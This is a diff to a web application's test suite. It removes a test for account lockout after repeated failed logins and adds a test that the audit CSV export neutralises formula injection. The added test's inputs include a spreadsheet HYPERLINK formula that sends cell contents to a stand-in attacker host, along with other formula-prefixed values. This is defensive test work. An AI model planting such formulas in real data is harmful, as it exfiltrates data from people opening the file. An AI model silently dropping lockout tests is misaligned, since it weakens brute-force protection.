@@ -99,16 +99,6 @@ describe('sessions', () => {
 });
 
 describe('login protection', () => {
-  it('locks an account after repeated failures, even for the right password', async () => {
-    await s.json('/api/users', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'lock-me', role: 'viewer', password: TEST_PASSWORD }) });
-    const attempt = (password: string) => fetch(`${s.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'lock-me', password }) });
-    for (let i = 0; i < 3; i++) expect((await attempt('wrong password!')).status).toBe(401);
-    const locked = await attempt(TEST_PASSWORD);
-    expect(locked.status).toBe(423);
-    await s.db.query(`UPDATE users SET locked_until = now() - interval '1 second' WHERE username = 'lock-me'`);
-    expect((await attempt(TEST_PASSWORD)).status).toBe(200);
-  });
-
   it('gives the same answer for unknown users and wrong passwords', async () => {
     const unknown = await fetch(`${s.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'ghost', password: 'whatever-it-is' }) });
     const wrong = await fetch(`${s.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'test-admin', password: 'whatever-it-is' }) });
@@ -164,5 +154,23 @@ describe('the route table', () => {
     const router = secureRouter(Router());
     expect(() => router.get('/secret-new-route', (_req, res) => res.json({}))).toThrow(/has no access rule/);
     expect(() => router.get('/meta', (_req, res) => res.json({}))).not.toThrow();
+  });
+});
+
+describe('audit CSV export (issue #14, 4)', () => {
+  it('neutralises formulas that an unauthenticated login attempt put in the actor column', async () => {
+    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd', '@SUM(A1)', '-2+3'];
+    for (const username of evil) {
+      await fetch(`${s.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username, password: 'whatever it is' }) });
+    }
+    const text = await (await s.get('/api/audit?format=csv&action=login')).text();
+    const cells = text.split(/\r\n/).slice(1).filter(Boolean).map((line) => line.split(';')[2]!);
+    for (const username of evil) {
+      // The actor cell starts with an apostrophe (in quotes where the value has quotes): never with the sign.
+      const cell = cells.find((c) => c.replace(/^"/, '').replaceAll('""', '"').slice(1).startsWith(username.slice(0, 12)));
+      expect(cell, `${username} in ${cells.join(' | ')}`).toBeDefined();
+      expect(cell!.replace(/^"/, '').startsWith("'"), cell).toBe(true);
+    }
+    for (const line of text.split(/\r\n/)) for (const c of line.split(';')) expect(c.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
